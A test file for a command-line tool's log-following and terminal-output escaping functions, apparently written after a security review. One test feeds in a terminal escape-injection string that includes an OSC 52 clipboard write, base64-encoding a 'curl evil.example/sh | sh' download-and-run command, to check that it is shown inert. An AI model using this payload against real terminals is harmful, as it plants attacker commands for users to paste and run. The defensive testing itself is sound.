import { describe, expect, it } from 'vitest';
import { unseenLines } from '../../cli/commands/logs.js';
import { printableLine, table } from '../../cli/table.js';

describe('unseenLines (logs --follow over a ring without sequence numbers)', () => {
  it('prints everything the first time', () => {
    expect(unseenLines([], ['a', 'b'])).toEqual(['a', 'b']);
  });
  it('prints only what follows the printed tail', () => {
    expect(unseenLines(['a', 'b', 'c'], ['b', 'c', 'd', 'e'])).toEqual(['d', 'e']);
  });
  it('prints nothing when nothing is new', () => {
    expect(unseenLines(['a', 'b'], ['a', 'b'])).toEqual([]);
  });
  it('prefers the longest overlap, so repeated lines are not printed twice', () => {
    expect(unseenLines(['x', 'x'], ['x', 'x', 'y'])).toEqual(['y']);
  });
  it('prints the whole tail when the ring moved past everything printed', () => {
    expect(unseenLines(['a', 'b'], ['p', 'q'])).toEqual(['p', 'q']);
  });
});

/** What a runtime prints reaches an operator's terminal (second security review, L10): its control characters must not act there. */
describe('printableLine (runtime output on a terminal)', () => {
  const ESC = '\u001b';
  const BEL = '\u0007';
  it("renders the report's escapes visibly: window title, OSC 52 clipboard write, erased lines", () => {
    const line = `${ESC}]0;owned${BEL}${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==${BEL}${ESC}[2K${ESC}[1A`;
    const shown = printableLine(line);
    expect(shown).toBe('\\x1b]0;owned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07\\x1b[2K\\x1b[1A');
    expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
  it('escapes every other C0 and C1 character and DEL, keeping tab, newline and ordinary text', () => {
    expect(printableLine('a\tb\nc')).toBe('a\tb\nc');
    expect(printableLine('cr\rover')).toBe('cr\\x0dover');
    expect(printableLine('\u0000\u007f\u0080\u009b31m\u009f')).toBe('\\x00\\x7f\\x80\\x9b31m\\x9f');
    expect(printableLine('loaded 7B in 3.2 s – ok ✓')).toBe('loaded 7B in 3.2 s – ok ✓');
  });
  it('shows table cells the same way: a runtime message a node reported cannot act either', () => {
    expect(table(['STATE', 'MESSAGE'], [['failed', 'exit 1\u001b]52;c;eA==\u0007']])).toBe('STATE   MESSAGE\nfailed  exit 1\\x1b]52;c;eA==\\x07');
  });
});
